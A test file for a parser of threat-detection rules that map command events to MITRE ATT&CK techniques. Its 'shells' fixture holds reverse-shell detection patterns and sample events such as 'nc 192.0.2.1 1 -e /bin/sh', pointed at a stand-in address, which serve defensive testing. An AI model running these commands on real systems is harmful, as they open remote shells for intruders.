import { expect, test } from 'vitest'
import { formatDiagnostic } from '../../core/diagnostic.ts'
import { emitsOf } from '../emit.ts'
import { ruleContext } from './context.ts'
import { naiveRevision } from './naive-revision.ts'
import { type ParsedFile, parseRules } from './parse.ts'

const context = ruleContext()

const whoami = `
rule_id: test.whoami
rule_version: 3
name: Who am I
applies_to: [command]
match:
  pattern: '\\bwhoami\\b'
emits:
  - technique_id: T1033
    tactic: TA0007
    confidence: 0.8
evidence_fields: [command_text]
tests:
  - event: { command_text: 'sudo whoami' }
    emits: [T1033]
  - event: { command_text: 'whoamis' }
    emits: []
`

function parse(text: string): ParsedFile {
  return parseRules('rules/a.yaml', text, context)
}

/** `whoami` with a change, and the codes of what that does. */
function codes(from: string, to: string): readonly string[] {
  expect(whoami).toContain(from)
  return parse(whoami.replace(from, to)).diagnostics.map(({ severity, code }) =>
    severity === 'error' ? code : `(${code})`,
  )
}

function onlyRule(text: string) {
  const { rules, diagnostics } = parse(text)
  expect(diagnostics.map(formatDiagnostic)).toEqual([])
  const [rule] = rules
  if (rule === undefined) throw new Error('no rule')
  return rule
}

test('a native rule becomes a rule', () => {
  const rule = onlyRule(whoami)
  expect(rule).toMatchObject({
    id: 'test.whoami',
    language: 'native',
    name: 'Who am I',
    severity: 'medium',
    kinds: ['command'],
    condition: { op: 'regex', field: 'command_text', pattern: '\\bwhoami\\b', flags: '' },
    emits: [
      {
        techniqueId: 'T1033',
        subTechniqueId: '',
        tactics: ['TA0007'],
        inRelease: true,
        confidence: 0.8,
      },
    ],
    evidenceFields: ['command_text'],
    file: 'rules/a.yaml',
    line: 2,
  })
  expect(rule.version).toBe(`3~${rule.logicHash.slice(0, 8)}`)
  expect(rule.samples.map(({ line, emits }) => [line, emits])).toEqual([
    [14, ['T1033']],
    [16, []],
  ])
})

test('without a field the short form searches the default field of each kind', () => {
  const rule = onlyRule(
    whoami.replace('[command]', '[command, process]').replace('[command_text]', '[host]'),
  )
  expect(rule.condition).toMatchObject({
    op: 'or',
    nodes: [{ field: 'command_text' }, { field: 'CommandLine' }],
  })
})

test.each([
  ['name: Who am I\n', '', ['missing-key']],
  ['name: Who', 'nmae: x\nname: Who', ['unknown-key']],
  ['rule_id: test.whoami', 'rule_id: has space', ['rule-id']],
  ['rule_version: 3', 'rule_version: three', ['value-type']],
  ['rule_version: 3', 'rule_version: 1.5', ['value-type']],
  ['[command]', '[comand]', ['unknown-kind']],
  ['[command]', '[]', ['missing-key']],
  ["'\\bwhoami\\b'", "'(whoami'", ['regex']],
  ["'\\bwhoami\\b'", "'who(?=ami)'", ['regex']],
  ['pattern:', 'field: comand_text\n  pattern:', ['unknown-field']],
  ['pattern:', 'flags: i\n  pattern:', ['unknown-key']],
  ['technique_id: T1033', 'technique_id: T9999', ['unknown-technique']],
  ['technique_id: T1033', 'technique_id: T1086', ['revoked-technique']],
  ['technique_id: T1033', 'technique_id: T1059.004', ['technique-is-sub']],
  ['T1033\n    tactic', 'T1033\n    sub_technique_id: T1059.004\n    tactic', ['technique-parent']],
  ['TA0007', 'TA0002', ['tactic-mismatch']],
  ['TA0007', 'TA9999', ['unknown-tactic']],
  ['confidence: 0.8', 'confidence: 7', ['confidence-range']],
  ['confidence: 0.8', 'confidence: -0.1', ['confidence-range']],
  ['confidence: 0.8', 'confidence: high', ['value-type']],
  ['    confidence: 0.8\n', '', ['missing-key']],
  ['confidence: 0.8', 'confidence: 0.2', ['(confidence-floor)']],
  ['confidence: 0.8', 'confidence: 0.8\n    when: selection', ['unknown-selection']],
  [
    'confidence: 0.8',
    'confidence: 0.8\n    scale: { field: nope, over: 0 }',
    ['unknown-field', 'value-type'],
  ],
  [
    '    confidence: 0.8',
    '    confidence: 0.8\n  - technique_id: T1033\n    confidence: 0.5',
    ['duplicate-emit'],
  ],
  [
    '    confidence: 0.8',
    '    confidence: 0.8\n    technique_from: fields.x',
    ['emit-conflict', 'emit-conflict'],
  ],
  ['[command_text]\n', '[comand_text]\n', ['unknown-field']],
  ['evidence_fields', 'severity: hgh\nevidence_fields', ['severity']],
  ['evidence_fields', 'last_reviewed: soon\nevidence_fields', ['value-type']],
  ["{ command_text: 'whoamis' }", "{ command_txt: 'whoamis' }", ['unknown-field']],
  ['emits: []', 'emits: [T1033]', ['test-failed']],
  ['emits: [T1033]', 'emits: [T1059]', ['test-failed']],
  ['    emits: []', '    kind: email\n    emits: []', ['unknown-kind', 'unknown-field']],
])('%j as %j reports %j', (from, to, expected) => {
  expect(codes(from, to)).toEqual(expected)
})

test('all problems of a rule are reported at once, each with its place and a note', () => {
  const { diagnostics, rules, refusedIds } = parse(
    whoami
      .replace('rule_version: 3', 'rule_version: x')
      .replace('TA0007', 'TA0002')
      .replace('0.8', '8'),
  )
  expect(rules).toEqual([])
  expect(refusedIds).toEqual(['test.whoami'])
  expect(diagnostics.map(formatDiagnostic)).toEqual([
    'rules/a.yaml:3:15: value-type: `rule_version` takes a number\n    rule_version: x\n                  ^',
    'rules/a.yaml:11:17: confidence-range: `confidence` lies between 0 and 1\n        confidence: 8\n                    ^',
    'rules/a.yaml:10:13: tactic-mismatch: `T1033` (System Owner/User Discovery) does not belong to `TA0002`\n        tactic: TA0002\n                ^^^^^^   it belongs to TA0007 (discovery)',
  ])
})

const shells = `
rule_id: test.shells
rule_version: 1
name: Shells
applies_to: [command]
match:
  netcat:
    command_text|contains: ' -e '
  devtcp:
    command_text|contains: /dev/tcp/
  condition: netcat or devtcp
emits:
  - technique_id: T1059
    sub_technique_id: T1059.004
    tactic: execution
    confidence: 0.9
  - technique_id: T1095
    confidence: 0.6
    when: netcat
tests:
  - event: { command_text: 'nc 192.0.2.1 1 -e /bin/sh' }
    emits: [T1059.004, T1095]
  - event: { command_text: 'cat < /dev/tcp/192.0.2.1/1' }
    emits: [T1059.004]
`

test('an emit with `when` needs its selection to have matched', () => {
  const rule = onlyRule(shells)
  expect(rule.emits[0]?.tactics).toEqual(['TA0002'])
  expect(rule.emits[1]?.tactics).toEqual(['TA0011'])
})

test('a scaled confidence is base × field / over and never above base', () => {
  const rule = onlyRule(`
rule_id: test.score
rule_version: 1
name: Score
applies_to: [intel]
match:
  bad: { verdict: malicious }
  condition: bad
emits:
  - technique_id: T1071
    confidence: 0.8
    scale: { field: score, over: 100 }
`)
  const confidences = [50, '25', 400, 0, -5, 'many', undefined, [10, 75]].map((score) => {
    const fields = score === undefined ? { verdict: 'malicious' } : { verdict: 'malicious', score }
    return emitsOf(rule, { kind: 'intel', logsource: {}, fields }).map((emit) => emit.confidence)
  })
  expect(confidences).toEqual([[0.4], [0.2], [0.8], [], [], [], [], [0.6000000000000001]])
})

test('techniques may come from a field, with tactics from the catalogue', () => {
  const rule = onlyRule(`
rule_id: test.alert
rule_version: 1
name: Alerts that name techniques
applies_to: [alert]
match:
  named: { technique_ids|exists: true }
  condition: named
emits:
  - technique_from: technique_ids
    confidence: 0.7
tests:
  - event: { technique_ids: [T1003.006, t1086, attack.t1059.001, nonsense, T9999] }
    emits: [T1003.006, T1059.001, T9999]
`)
  const event = {
    kind: 'alert',
    logsource: {},
    fields: { technique_ids: ['T1003.006', 'T1086', 'T9999'] },
  }
  expect(emitsOf(rule, event)).toEqual([
    {
      techniqueId: 'T1003',
      subTechniqueId: 'T1003.006',
      tactics: ['TA0006'],
      inRelease: true,
      confidence: 0.7,
    },
    {
      techniqueId: 'T1059',
      subTechniqueId: 'T1059.001',
      tactics: ['TA0002'],
      inRelease: true,
      confidence: 0.7,
    },
    { techniqueId: 'T9999', subTechniqueId: '', tactics: [], inRelease: false, confidence: 0.7 },
  ])
})

test('a tactic may be named by id or by its name in the technique’s own domain', () => {
  const tactics = (technique: string, tactic: string) =>
    onlyRule(
      whoami
        .replace('T1033\n', `${technique}\n`)
        .replace('TA0007', tactic)
        .replace(/tests:.*/s, ''),
    ).emits[0]?.tactics
  expect(tactics('T1033', 'discovery')).toEqual(['TA0007'])
  expect(tactics('T1078', '[persistence, TA0001]')).toEqual(['TA0001', 'TA0003'])
  expect(tactics('T0802', 'collection')).toEqual(['TA0100'])
})

test('comments, names, tests, order and names of selections do not change the logic hash', () => {
  const before = onlyRule(shells)
  const after = onlyRule(
    `# a comment\n${shells
      .replace('name: Shells', 'name: Shells and more')
      .replaceAll('netcat', 'with_program')
      .replace('with_program or devtcp', 'devtcp or with_program')
      .replace('rule_version: 1', 'rule_version: 2')}`,
  )
  expect(after.logicHash).toBe(before.logicHash)
  expect(after.ruleHash).not.toBe(before.ruleHash)
  expect(after.version).toBe(before.version.replace('1~', '2~'))
})

test.each([
  ["' -e '", "' -c '"],
  ['netcat or devtcp', 'netcat and devtcp'],
  ['confidence: 0.9', 'confidence: 0.85'],
  ['when: netcat', 'when: devtcp'],
  ['[command]', '[command, process]'],
  ['|contains: /dev', '|startswith: /dev'],
])('%j as %j changes the logic hash', (from, to) => {
  const untested = shells.slice(0, shells.indexOf('tests:'))
  expect(untested).toContain(from)
  expect(onlyRule(untested.replace(from, to)).logicHash).not.toBe(onlyRule(untested).logicHash)
})

test('several documents are several rules, and a bad one takes no other with it', () => {
  const broken = whoami.replace('test.whoami', 'test.broken').replace('TA0007', 'TA0002')
  const { rules, refusedIds, hasNamelessRefusal } = parse(`${broken}---${shells}---\n- a list\n`)
  expect(rules.map((rule) => rule.id)).toEqual(['test.shells'])
  expect(refusedIds).toEqual(['test.broken'])
  expect(hasNamelessRefusal).toBe(true)
})

test('a native rule meets the kinds it applies to and no other', () => {
  const revision = naiveRevision([onlyRule(whoami)])
  const fields = { command_text: 'whoami' }
  expect(revision.match({ kind: 'command', logsource: {}, fields })).toHaveLength(1)
  expect(revision.match({ kind: 'process', logsource: {}, fields })).toHaveLength(0)
})
